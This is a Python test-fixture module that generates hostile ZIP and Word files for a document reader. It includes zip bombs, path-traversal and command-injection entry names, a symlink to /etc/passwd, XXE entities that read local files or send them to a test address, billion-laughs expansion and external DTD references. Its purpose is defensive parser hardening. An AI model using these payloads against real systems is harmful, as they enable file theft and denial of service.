"""Hostile containers and Word files: each is made when asked for, so that none lies about as binary and none is held in memory with the others."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.readers.conftest import docx_parts, p, zipped

Files = Iterator[tuple[str, Callable[[], bytes]]]
"""What a file tries (its name in the tests) and how it is made."""

MB = 1 << 20
ORDER = "县水务局要在6月底前完成12公里河道清淤，县财政局配合。"
PARTS = (
    "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels",
    "word/styles.xml", "word/numbering.xml", "word/footnotes.xml", "docProps/core.xml", "customXml/item1.xml",
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ODD_NAMES = (
    "../evil.xml", "..\\evil.xml", "../../../../../../tmp/duban-evil.xml", "word/../../evil.xml",
    "/tmp/duban-evil.xml", "//host/share/evil.xml", "\\\\host\\share\\evil.xml", "C:\\evil.xml", "c:evil.xml",
    "file:///tmp/duban-evil.xml", "~/evil.xml", "CON", "NUL.xml", "aux.xml", "COM1.docx",
    "word/document.xml/", "word/document.xml ", "WORD/DOCUMENT.XML", "word\\document.xml",
    "./word/document.xml", "word//document.xml", "a" * 60_000 + ".xml", "a/" * 20_000 + "x.xml",
    "evil\r\nX: y.xml", "evil\x1b[2J.xml", "讲\u202elmx.txt", "．．／evil.xml", "%2e%2e%2fevil.xml",
    "<script>alert(7331)</script>.xml", "$(touch evil).xml", "evil.xml:stream",
    "\ud83d\ude00.xml".encode("utf-16", "surrogatepass").decode("utf-16"), "", ".", "..", " ",
)


def word(body: str = p(ORDER), **others: str) -> bytes:
    return zipped(docx_parts(body, **others))


def with_part(path: str, content: bytes | str, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a good docx with one part more, or in the place of the one it had."""
    parts = {name: content for name, content in docx_parts(p(ORDER)).items() if name != path}
    stream = io.BytesIO(zipped(parts))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(path, content, compression)
    return stream.getvalue()


def with_name(path: str) -> bytes:
    """Return a good docx with an entry of that name, written to the letter: `zipfile` would mend it."""
    name = path.encode()[:60_000]
    held = b"0" * max(len(name), 8)
    data = with_part(held.decode(), "<a/>")
    if len(name) == len(held):
        return data.replace(held, name)
    # A name shorter than its place: the rest of it becomes part of the extra field.
    for mark, at in ((b"PK\x03\x04", 26), (b"PK\x01\x02", 28)):
        data = patched(data, mark, at, struct.pack("<HH", len(name), len(held) - len(name)))
    return data.replace(held, name + b"\xff\xff" + struct.pack("<H", len(held) - len(name) - 4) + b"0" * (len(held) - len(name) - 4) if len(held) - len(name) >= 4 else name.ljust(len(held), b"0"))


def nested(depth: int, kernel: bytes) -> bytes:
    for _ in range(depth):
        kernel = zipped({f"{n}.zip": kernel for n in range(8)})
    return kernel


def overlapping(entries: int, size: int) -> bytes:
    """Return a docx whose directory names one compressed kernel many times: what it inflates to grows with the square of what it holds (Fifield 2019)."""
    base = bytearray(word())
    kernel = zlib.compress(b" " * size, 9)[2:-4]
    crc, at = zlib.crc32(b" " * size), 0
    with zipfile.ZipFile(io.BytesIO(bytes(base))) as archive:
        at, count = archive.start_dir, len(archive.infolist())
    end = bytes(base).rindex(b"PK\x05\x06")
    directory = bytes(base)[at:end]
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(kernel), size, 5, 0) + b"a.xml" + kernel
    for n in range(entries):
        directory += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(kernel), size, 9, 0, 0, 0, 0, 0, at) + f"a{n:04}.xml".encode()
    ending = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + entries, count + entries, len(directory), at + len(local), 0)
    return bytes(base)[:at] + local + directory + ending


def many_entries(count: int) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for path, content in docx_parts(p(ORDER)).items():
            archive.writestr(path, content)
        for n in range(count):
            archive.writestr(f"w/{n}", b"")
    return stream.getvalue()


def patched(data: bytes, mark: bytes, offset: int, value: bytes, *, last: bool = True) -> bytes:
    """Return data with `value` written `offset` bytes behind the first or last `mark`."""
    changed = bytearray(data)
    at = (data.rindex(mark) if last else data.index(mark)) + offset
    changed[at : at + len(value)] = value
    return bytes(changed)


def lying(told: int) -> bytes:
    """Return a docx with a part that is 60 MB large and says in both headers that it is not."""
    data = with_part("word/big.xml", b" " * (60 * MB))
    data = patched(data, b"PK\x01\x02", 24, struct.pack("<I", told))
    return patched(data, b"PK\x03\x04", 22, struct.pack("<I", told))


def greedy_lzma() -> bytes:
    """Return a docx with a part whose LZMA header asks for a dictionary of 1.5 GB."""
    data = with_part("word/x.xml", b"<a/>" * 1000, zipfile.ZIP_LZMA)
    at = data.index(b"word/x.xml") + len(b"word/x.xml")
    return data[: at + 5] + struct.pack("<I", 0x60000000) + data[at + 9 :]


def symlink() -> bytes:
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as archive:
        link = zipfile.ZipInfo("word/media/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def twice() -> bytes:
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/document.xm_", docx_parts(p("另一份正文"))["word/document.xml"])
    return stream.getvalue().replace(b"word/document.xm_", b"word/document.xml")


def declared(kind: str, secret: str, address: str) -> str:
    """Return the declaration of a part: an entity from a file, from the net, one that grows, or a foreign DTD."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "file": f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>',
        "net": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}/xxe">]>',
        "laughs": f'<!DOCTYPE a [<!ENTITY l0 "笑">{laughs}<!ENTITY x "&l9;">]>',
        "quadratic": f'<!DOCTYPE a [<!ENTITY x "{"笑" * 100_000}">]>',
        "dtd": f'<!DOCTYPE a SYSTEM "{address}/a.dtd">',
        "parameter": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "file://{secret}"><!ENTITY % q "<!ENTITY x SYSTEM \'{address}/?%p;\'>">%q;]>',
    }[kind]


def entity(part: str, kind: str, secret: str, address: str, coding: str = "utf-8") -> bytes:
    """Return a docx with a DOCTYPE in a part, and the entity used where it would show."""
    parts = docx_parts(p(ORDER), styles=f'<w:styles xmlns:w="{W}"/>', numbering=f'<w:numbering xmlns:w="{W}"/>', footnotes=f'<w:footnotes xmlns:w="{W}"/>')
    good = str(parts.get(part, "<a></a>"))
    content = declared(kind, secret, address) + (good.replace("</w:t>", "&x;</w:t>") if "</w:t>" in good else good.replace("</", "&x;</", 1))
    if coding != "utf-8":
        content = f'<?xml version="1.0" encoding="{coding}"?>{content}'
    return zipped({**parts, part: content.replace("<!", "+ADwAIQ-").encode() if coding == "utf-7" else content.encode(coding, "xmlcharrefreplace")})


def containers() -> Files:
    """Zip files that grow, lie or lead elsewhere."""
    yield "a zip of texts", lambda: zipped({"a.txt": ORDER})
    yield "zips in zips", lambda: nested(3, zipped({"a.txt": b"0" * 500_000}))
    yield "a docx in a docx in a docx", lambda: with_part("word/embeddings/a.docx", with_part("word/embeddings/b.docx", word()))
    yield "an empty zip", lambda: b"PK\x05\x06" + b"\0" * 18
    yield "a zip with a comment of 65535", lambda: patched(word(), b"PK\x05\x06", 20, b"\xff\xff" + b"x" * 65535)
    yield "a part of 70 MB in 70 KB", lambda: with_part("word/document.xml", b" " * (70 * MB))
    yield "a part of 19 MB of blanks", lambda: with_part("word/document.xml", b" " * (19 * MB))
    yield "a picture of 200 MB in 200 KB", lambda: with_part("word/media/a.bmp", b"\0" * (200 * MB))
    yield "99 parts of 990 KB each", lambda: zipped({**docx_parts(p(ORDER)), **{f"word/{n}.xml": b" " * 990_000 for n in range(99)}})
    yield "sizes told as 1000", lambda: lying(1000)
    yield "sizes told as 0", lambda: lying(0)
    yield "sizes told as 4 GB", lambda: lying(0xFFFFFFFF)
    yield "packed size told as 4 GB", lambda: patched(word(), b"PK\x01\x02", 20, b"\xfe\xff\xff\xff")
    yield "an offset behind the end", lambda: patched(word(), b"PK\x01\x02", 42, struct.pack("<I", 0xF0000000))
    yield "an offset into another entry", lambda: patched(word(), b"PK\x01\x02", 42, struct.pack("<I", 7))
    yield "a directory of 65535", lambda: patched(word(), b"PK\x05\x06", 8, b"\xff\xff\xff\xff")
    yield "a directory far before the file", lambda: patched(word(), b"PK\x05\x06", 12, b"\xff\xff\xff\x7f")
    yield "1000 entries on one kernel of 10 MB", lambda: overlapping(1000, 10 * MB)
    yield "100 entries on one kernel of 900 KB", lambda: overlapping(100, 900_000)
    yield "2001 entries", lambda: many_entries(2001)
    yield "100000 entries", lambda: many_entries(100_000)
    yield "an encrypted entry", lambda: patched(word(), b"PK\x01\x02", 8, b"\x01")
    yield "strong encryption", lambda: patched(word(), b"PK\x01\x02", 8, b"\x41")
    for method in (1, 6, 9, 12, 14, 93, 95, 99):
        yield f"compression method {method}", lambda method=method: patched(patched(word(), b"PK\x01\x02", 10, bytes([method])), b"PK\x03\x04", 8, bytes([method]))
    yield "a bzip2 bomb", lambda: with_part("word/x.xml", b"\0" * (90 * MB), zipfile.ZIP_BZIP2)
    yield "an LZMA bomb", lambda: with_part("word/x.xml", b"\0" * (90 * MB), zipfile.ZIP_LZMA)
    yield "an LZMA dictionary of 1.5 GB", greedy_lzma
    yield "a link to /etc/passwd", symlink
    yield "two bodies of one name", twice
    yield "a wrong checksum", lambda: patched(word(), b"PK\x01\x02", 16, b"\1\2\3\4", last=False)
    for n, name in enumerate(ODD_NAMES):
        yield f"entry name {n}: {name[:30]!r}", lambda name=name: with_name(name)
    for share in (0, 1, 2, 5, 9):
        yield f"the first {share} tenths", lambda share=share: word()[: max(4, len(word()) * share // 10)]
    for n in range(8):
        yield f"a byte flipped at {n} eighths", lambda n=n: patched(word(), b"PK", len(word()) * n // 8 + 5, b"\xa5", last=False)


def papers(secret: str, address: str) -> Files:
    """Word files that read files, ask the net, or grow in the reader."""
    for part in PARTS:
        for kind in ("file", "laughs"):
            yield f"{kind} entity in {part}", lambda part=part, kind=kind: entity(part, kind, secret, address)
    for kind in ("net", "quadratic", "dtd", "parameter"):
        yield f"{kind} entity in the body", lambda kind=kind: entity("word/document.xml", kind, secret, address)
    for coding in ("utf-16", "utf-32", "utf-7", "cp037", "gb18030"):
        yield f"a file entity in {coding}", lambda coding=coding: entity("word/document.xml", "file", secret, address, coding)
    yield "an entity nobody declared", lambda: word(p("&x;"))
    yield "XInclude", lambda: word(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>' + p(ORDER))
    yield "a style sheet of the net", lambda: with_part("word/document.xml", f'<?xml-stylesheet href="{address}/a.xsl"?>' + str(docx_parts(p(ORDER))["word/document.xml"]))
    yield "relations to files and the net", lambda: with_part("word/_rels/document.xml.rels", (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="r{n}" Type="http://x/{kind}" Target="{target}"{mode}/>' for n, (kind, target, mode) in enumerate((
                ("styles", f"file://{secret}", ""), ("numbering", f"{address}/n.xml", ' TargetMode="External"'), ("footnotes", "../../../../../etc/passwd", ""),
                ("attachedTemplate", f"{address}/t.dotm", ' TargetMode="External"'), ("image", "\\\\host\\share\\a.png", ' TargetMode="External"'),
            ))
        ) + "</Relationships>"
    ))
    yield "a body elsewhere", lambda: with_part("_rels/.rels", f'<Relationships><Relationship Id="d" Type="a/officeDocument" Target="file://{secret}"/></Relationships>')
    yield "no body", lambda: zipped({k: v for k, v in docx_parts("").items() if k != "word/document.xml"})
    yield "an empty body part", lambda: with_part("word/document.xml", "")
    yield "no words", lambda: word("")
    yield "a NUL in the body", lambda: with_part("word/document.xml", str(docx_parts(p("县水务局\0要清淤"))["word/document.xml"]))
    yield "a body in broken UTF-8", lambda: with_part("word/document.xml", str(docx_parts(p("县水务局")) ["word/document.xml"]).encode().replace("水".encode(), b"\xed\xa0\x80"))
    yield "macros", lambda: with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000)
    for depth in (300, 20_000, 500_000):
        yield f"{depth} elements deep", lambda depth=depth: word("<w:sdt><w:sdtContent>" * depth + p(ORDER) + "</w:sdtContent></w:sdt>" * depth)
    for depth in (80, 4000):
        yield f"tables {depth} deep", lambda depth=depth: word("<w:tbl><w:tr><w:tc>" * depth + p(ORDER) + "</w:tc></w:tr></w:tbl>" * depth)
    yield "alternatives 25 deep", lambda: word(alternatives(25))
    yield "a cell over a milliard columns", lambda: word(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{p(ORDER)}</w:tc></w:tr></w:tbl>')
    yield "400000 empty paragraphs", lambda: word("<w:p/>" * 400_000)
    yield "200000 runs of one character", lambda: word("<w:p>" + "<w:r><w:t>水</w:t></w:r>" * 200_000 + "</w:p>")
    yield "an attribute of 15 MB", lambda: word(f'<w:p w:rsidR="{noise(15 * MB)}"><w:r><w:t>{ORDER}</w:t></w:r></w:p>')
    yield "100000 attributes", lambda: word("<w:p " + " ".join(f'a{n}="{n}"' for n in range(100_000)) + f"><w:r><w:t>{ORDER}</w:t></w:r></w:p>")
    yield "100000 namespaces", lambda: word("<w:p " + " ".join(f'xmlns:a{n}="{n}"' for n in range(100_000)) + f"><w:r><w:t>{ORDER}</w:t></w:r></w:p>")
    yield "one paragraph of 5 MB", lambda: word(p(ORDER * 60_000))
    yield "20000 orders", lambda: word("".join(p(f"县水务局要在6月底前完成{n}公里河道清淤。") for n in range(20_000)))
    for form in ("upperRoman", "chineseCounting", "upperLetter", "decimalZero", "none", "x" * 5000):
        yield f"numbers beginning at a milliard, {form[:20]}", lambda form=form: word(numbered(50), numbering=numbering(1_000_000_000, form))
    yield "a number below zero", lambda: word(numbered(50), numbering=numbering(-1_000_000_000, "upperRoman"))
    yield "a number that is none", lambda: word(numbered(50).replace('w:val="1"', 'w:val="九"'), numbering=numbering("NaN", "decimal"))
    yield "levels of lists without end", lambda: word(numbered(50, level=10**9), numbering=numbering(1, "decimal"))
    yield "numbers in numbers", lambda: word(numbered(300), numbering=numbering(1, "decimal", text="%1" * 50_000))
    yield "styles based on each other", lambda: word(
        f'<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>{ORDER}</w:t></w:r></w:p>',
        styles=f'<w:styles xmlns:w="{W}">' + "".join(
            f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{other}"/></w:style>' for one, other in ("ab", "ba")
        ) + "</w:styles>",
    )
    yield "footnotes in footnotes", lambda: word(
        f'<w:p><w:r><w:t>{ORDER}</w:t><w:footnoteReference w:id="2"/></w:r></w:p>',
        footnotes=f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2"><w:p><w:r><w:t>注</w:t><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>',
    )
    link = 'HYPERLINK "javascript:alert(7331)"'
    field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{link}</w:instrText></w:r><w:r><w:t>{ORDER}</w:t></w:r></w:p>'
    yield "fields never closed", lambda: word(field * 2000)


def alternatives(depth: int) -> str:
    text = p(ORDER)
    for _ in range(depth):
        text = f'<mc:AlternateContent><mc:Choice Requires="x">{text[: 2000]}</mc:Choice><mc:Fallback>{text}</mc:Fallback></mc:AlternateContent>' if len(text) < 2000 else f"<w:ins>{text}</w:ins>"
    return text


def noise(size: int) -> str:
    """Return characters that do not shrink much, so that only the size is hostile."""
    from random import Random

    return Random(7).randbytes(size // 2).hex()


def numbered(count: int, level: int = 0) -> str:
    return p(ORDER, f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr>') * count


def numbering(start: int | str, form: str, text: str = "%1.") -> str:
    return (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="{form}"/><w:lvlText w:val="{text}"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
